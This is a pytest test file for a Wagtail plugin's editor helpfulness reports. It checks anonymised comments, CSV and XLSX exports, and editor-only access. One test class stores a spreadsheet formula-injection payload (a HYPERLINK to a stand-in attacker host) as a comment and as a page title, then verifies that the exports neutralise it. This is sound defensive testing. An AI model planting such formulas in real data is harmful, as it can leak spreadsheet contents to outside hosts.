"""The editors' helpfulness reports (``wagtail_social/admin/reports.py``): ratio and comments
without names, CSV and XLSX exports with formulas neutralised, for those who may edit pages."""

import codecs
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from tests.polls_admin import body
from tests.utils import add_page, make_user, set_policy
from wagtail_social.models import HelpfulVote

pytestmark = pytest.mark.django_db
REPORT = reverse("wagtail_social_admin:helpfulness")
COMMENTS = reverse("wagtail_social_admin:helpful_comments")


class TestReport:
    @pytest.fixture
    def answers(self, faq):
        for n, (helpful, comment) in enumerate(
            [(True, ""), (True, "Clair"), (False, "Trop long"), (True, "")]
        ):
            HelpfulVote.objects.create(
                user=make_user(f"reader{n}"), page=faq, helpful=helpful, comment=comment
            )

    def test_editor_sees_ratio_and_comments_without_names(self, client_for, editor, faq, answers):
        client = client_for(editor)
        html = client.get(REPORT).content.decode()
        assert "FAQ mutuelle" in html
        assert ">75<" in html.replace(" ", "").replace("\n", "")
        comments = client.get(COMMENTS, {"page": faq.pk}).content.decode()
        assert "Trop long" in comments and "Clair" in comments
        assert "reader2" not in comments

    def test_csv_export(self, client_for, editor, faq, answers):
        response = client_for(editor).get(REPORT, {"export": "csv"})
        body = (
            b"".join(response.streaming_content).decode("utf-8-sig")
            if response.streaming
            else response.content.decode("utf-8-sig")
        )
        assert "FAQ mutuelle;3;1;75;2" in body

    def test_xlsx_export(self, client_for, editor, faq, answers):
        response = client_for(editor).get(COMMENTS, {"export": "xlsx"})
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")

    def test_plain_employees_cannot_see_the_report(self, client_for, employee, faq, answers):
        response = client_for(employee).get(REPORT)
        assert response.status_code in (302, 403)
        assert b"FAQ mutuelle" not in response.content


class TestExportsNeutraliseFormulas:
    """A reader's comment, or a page title, that a spreadsheet would run as a formula is written
    with a quote in front; figures stay numbers; the CSV opens in French Excel."""

    FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    @pytest.fixture
    def page(self, section):
        set_policy(section, comments_enabled=False, helpful_enabled=True)
        page = add_page(section, "@Tarifs 2027", slug="tarifs")
        HelpfulVote.objects.create(user=make_user("reader0"), page=page, helpful=False, comment=self.FORMULA)
        HelpfulVote.objects.create(user=make_user("reader1"), page=page, helpful=True, comment="-1 for me")
        return page

    def test_comments_csv(self, client_for, editor, page):
        data = body(client_for(editor).get(COMMENTS, {"export": "csv"}))
        assert data.startswith(codecs.BOM_UTF8)
        lines = data.decode("utf-8-sig").splitlines()
        assert lines[0] == "Page;Answer;Comment;Date"
        assert lines[1].startswith("'@Tarifs 2027;Yes;'-1 for me;")
        assert lines[2].startswith(
            '\'@Tarifs 2027;No;"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")";'
        )

    def test_comments_xlsx(self, client_for, editor, page):
        data = body(client_for(editor).get(COMMENTS, {"export": "xlsx"}))
        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
        assert [row[:3] for row in rows[1:]] == [
            ("'@Tarifs 2027", "Yes", "'-1 for me"),
            ("'@Tarifs 2027", "No", "'" + self.FORMULA),
        ]

    def test_helpfulness_csv_and_xlsx(self, client_for, editor, page):
        client = client_for(editor)
        text = body(client.get(REPORT, {"export": "csv"})).decode("utf-8-sig")
        assert "'@Tarifs 2027;1;1;50;2" in text.splitlines()
        data = body(client.get(REPORT, {"export": "xlsx"}))
        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
        assert ("'@Tarifs 2027", 1, 1, 50, 2) in rows

    def test_helpfulness_with_a_hyperlink_title(self, client_for, editor, section):
        page = add_page(section, self.FORMULA, slug="hyperlink")
        HelpfulVote.objects.create(user=make_user("reader2"), page=page, helpful=True)
        client = client_for(editor)
        text = body(client.get(REPORT, {"export": "csv"})).decode("utf-8-sig")
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")";1;0;100;0' in text.splitlines()
        data = body(client.get(REPORT, {"export": "xlsx"}))
        sheet = load_workbook(io.BytesIO(data)).active
        assert ("'" + self.FORMULA, 1, 0, 100, 0) in list(sheet.iter_rows(values_only=True))
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_streamed_csv_is_in_the_users_language(client_for, editor, faq):
    """The CSV is made after the view returns: its headings still follow the admin language."""
    HelpfulVote.objects.create(user=make_user("reader0"), page=faq, helpful=False, comment="Trop long")
    profile = UserProfile.get_for_user(editor)
    profile.preferred_language = "fr"
    profile.save()
    text = body(client_for(editor).get(COMMENTS, {"export": "csv"})).decode("utf-8-sig")
    assert text.splitlines()[0] == "Page;Réponse;Commentaire;Date"
